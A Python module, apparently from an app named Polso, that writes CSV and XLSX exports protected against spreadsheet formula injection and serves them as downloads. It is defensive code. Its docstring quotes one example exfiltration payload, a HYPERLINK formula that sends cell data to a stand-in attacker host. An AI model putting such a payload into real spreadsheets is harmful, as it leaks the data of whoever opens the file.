"""Every CSV and XLSX file the app hands out is written here, one way: text is always text.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or a
carriage return) as a formula: a department named ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
would send the sheet's data away when someone clicks it. What this module promises:

- :func:`write_csv`: UTF-8 with a byte order mark (so Excel reads accents right), CRLF line ends,
  quoting where needed. A text cell that starts with one of those characters, or with its
  full-width form, gets a leading apostrophe (OWASP, "CSV Injection"): the program reads the cell
  as text, apostrophe shown, and never runs it. Numbers are not text and are never prefixed. Where the
  locale writes decimals with a comma (Italian), cells are separated by ``;`` and numbers use the
  comma; elsewhere ``,`` and a point. No thousands separators.
- :func:`write_xlsx`: every text cell is a string cell (never a formula, whatever it starts with)
  and is marked as text, so Excel keeps it text even when someone edits it; numbers and dates
  are numbers and dates. XML cannot hold most control characters, so they are dropped, and a CR
  line break is written as LF (Excel's own). The header row is bold and stays in view.
- :func:`file_name` and :func:`download`: a file name that says what the file holds, and the
  response that hands it out (the right type, an RFC 6266 ``Content-Disposition`` with an ASCII
  fallback and the UTF-8 name, ``Cache-Control: no-store``).

Cells are ``str``, ``int``, ``float``, ``Decimal``, ``date``, ``datetime`` or ``None`` (empty);
anything else, ``bool`` included, is a ``TypeError``. A ``datetime`` is written as its wall-clock
time without an offset (XLSX has none): convert it to the reader's time zone first. Translating
headers and values is the caller's job (flask_babel's ``gettext``, in the request's language).
"""

from __future__ import annotations

import csv
import io
import math
import re
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal
from urllib.parse import quote

import pandas as pd
from babel.numbers import get_decimal_symbol
from flask import Response, current_app
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

Cell = str | int | float | Decimal | date | datetime | None

MIMETYPES = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
# What a spreadsheet program reads as the start of a formula (OWASP), and the full-width forms of
# the first four, which input methods and some programs fold into the ASCII ones. The rule is written
# here, not taken from defusedcsv 3.0.0: that leaves a leading tab or CR as it is and rewrites every
# "|" of a prefixed cell to "\|", so the text would not come back as it was.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOM = "\ufeff"
# Excel's limits on a sheet's name.
SHEET_NAME_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")
SHEET_NAME_LENGTH = 31
MAX_STEM = 150


@dataclass(frozen=True)
class Table:
    """One table of an export: headers, rows of cells in the same order, and a title (its XLSX sheet's name)."""

    columns: Sequence[str]
    rows: Sequence[Sequence[Cell]]
    title: str = ""

    @classmethod
    def from_frame(cls, frame: pd.DataFrame, title: str = "") -> Table:
        """A DataFrame's columns and rows (not its index); NaN, NA and NaT become empty cells."""
        split = frame.to_dict(orient="split")
        return cls([str(c) for c in split["columns"]], [[_plain(v) for v in row] for row in split["data"]], title)


def _plain(value: object) -> Cell:
    # to_dict already turns NumPy scalars into Python ones; what is left is pandas' missing values and Timestamp.
    if isinstance(value, str) or value is None:
        return value
    if pd.isna(value):
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    return value  # type: ignore[return-value]


def escape_text(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet program will not run: with a leading apostrophe if it could start a
    formula (see ``FORMULA_STARTS``), else unchanged."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _wall_clock(value: datetime) -> datetime:
    return value.replace(tzinfo=None)


def _check(value: object) -> None:
    if isinstance(value, bool) or not isinstance(value, str | int | float | Decimal | date | type(None)):
        raise TypeError(f"a spreadsheet cell cannot hold {type(value).__name__}: {value!r}")


def _finite(value: float | Decimal) -> bool:
    return value.is_finite() if isinstance(value, Decimal) else math.isfinite(value)


def _csv_cell(value: Cell, decimal_symbol: str) -> str:
    _check(value)
    if value is None:
        return ""
    if isinstance(value, str):
        return escape_text(value)
    if isinstance(value, datetime):
        return _wall_clock(value).isoformat(sep=" ", timespec="seconds")
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, int):
        return str(value)
    if not _finite(value):
        return ""
    # Positional notation whatever the size (no "1e-05"), with the locale's decimal symbol.
    text = format(value if isinstance(value, Decimal) else Decimal(repr(value)), "f")
    return text.replace(".", decimal_symbol)


def csv_format(locale: str) -> tuple[str, str]:
    """The cell separator and decimal symbol of CSV files for ``locale``: ``(";", ",")`` for Italian,
    ``(",", ".")`` for English. A locale with a decimal comma needs another separator, as Excel expects there."""
    decimal_symbol = get_decimal_symbol(locale)
    return (";" if decimal_symbol == "," else ","), decimal_symbol


def write_csv(table: Table, locale: str) -> bytes:
    """``table`` as a CSV file for people in ``locale`` (see the module's promise); the title is not written."""
    separator, decimal_symbol = csv_format(locale)
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=separator, lineterminator="\r\n")
    writer.writerow([_csv_cell(c, decimal_symbol) for c in table.columns])
    for row in table.rows:
        writer.writerow([_csv_cell(c, decimal_symbol) for c in row])
    return (BOM + out.getvalue()).encode("utf-8")


def _sheet_name(title: str, taken: set[str]) -> str:
    base = SHEET_NAME_FORBIDDEN.sub(" ", title).strip().strip("'")[:SHEET_NAME_LENGTH].strip() or "Sheet"
    name, number = base, 1
    while name.casefold() in taken:
        number += 1
        suffix = f" ({number})"
        name = base[:SHEET_NAME_LENGTH - len(suffix)] + suffix
    taken.add(name.casefold())
    return name


def _xlsx_cell(sheet, value: Cell, font: Font | None = None) -> WriteOnlyCell:
    if isinstance(value, str):
        # A bare CR would come back as LF anyway: XML readers normalise line ends.
        value = ILLEGAL_CHARACTERS_RE.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))
    elif isinstance(value, datetime):
        value = _wall_clock(value)
    elif isinstance(value, float | Decimal) and not _finite(value):
        value = None
    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str):
        # openpyxl makes any text starting with "=" a formula; this cell holds the text itself.
        cell.data_type = "s"
        cell.quotePrefix = True
    if font is not None:
        cell.font = font
    return cell


def _width(values: list[Cell]) -> float:
    longest = max((len(str(v)) for v in values if v is not None), default=0)
    return min(max(longest, 6) + 2, 60)


def write_xlsx(sheets: Sequence[Table]) -> bytes:
    """One XLSX workbook, a sheet per table in order, named after its title (made a valid, unique sheet name).

    Numbers are typed, so Excel shows them in its user's locale; only the texts depend on the request's.
    :raise ValueError: with no table (a workbook needs a sheet).
    """
    if not sheets:
        raise ValueError("an XLSX file needs at least one sheet")
    # Every cell checked before the first is written: a write-only workbook left half-written lingers.
    for table in sheets:
        for value in (*table.columns, *(v for row in table.rows for v in row)):
            _check(value)
    book = Workbook(write_only=True)
    book.properties.creator = "Polso"
    taken: set[str] = set()
    bold = Font(bold=True)
    for table in sheets:
        sheet = book.create_sheet(_sheet_name(table.title, taken))
        # Layout first: a write-only sheet writes it before its first row.
        sheet.freeze_panes = "A2"
        for index, header in enumerate(table.columns):
            column = [header, *(row[index] for row in table.rows)]
            sheet.column_dimensions[get_column_letter(index + 1)].width = _width(column)
        sheet.append([_xlsx_cell(sheet, header, bold) for header in table.columns])
        for row in table.rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def slug(text: str) -> str:
    """``text`` for a file name: lower case, every run of anything but letters and digits one hyphen, accents kept."""
    return re.sub(r"[\W_]+", "-", unicodedata.normalize("NFKC", text).lower()).strip("-")


def file_name(*parts: str | date | None, extension: str) -> str:
    """``polso-<part>-<part>….<extension>``: each part a :func:`slug` (a date in ISO form), empty or missing
    parts left out, the name before the extension at most 150 characters."""
    words = ["polso", *(slug(p.isoformat() if isinstance(p, date) else p) for p in parts if p)]
    stem = "-".join(w for w in words if w)[:MAX_STEM].rstrip("-")
    return f"{stem}.{extension}"


def _ascii(text: str) -> str:
    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode("ascii")
    return re.sub(r"[^A-Za-z0-9]+", "-", text).strip("-")


def _ascii_name(name: str) -> str:
    stem, dot, extension = name.rpartition(".")
    if not dot:
        stem, extension = name, ""
    return ".".join(part for part in (_ascii(stem) or "polso", _ascii(extension)) if part)


def content_disposition(name: str) -> str:
    """An RFC 6266 attachment header for ``name``: an ASCII ``filename`` (accents dropped) for old clients and
    ``filename*`` with the name itself in UTF-8."""
    return f"attachment; filename=\"{_ascii_name(name)}\"; filename*=UTF-8''{quote(name, safe='')}"


def download(body: bytes, name: str) -> Response:
    """The response that hands out ``body`` as the file ``name`` (``.csv`` or ``.xlsx``), never cached.

    :raise KeyError: for another extension.
    """
    mimetype = MIMETYPES[name.rsplit(".", 1)[-1]]
    return current_app.response_class(body, mimetype=mimetype, headers={
        "Content-Disposition": content_disposition(name), "Cache-Control": "no-store"})
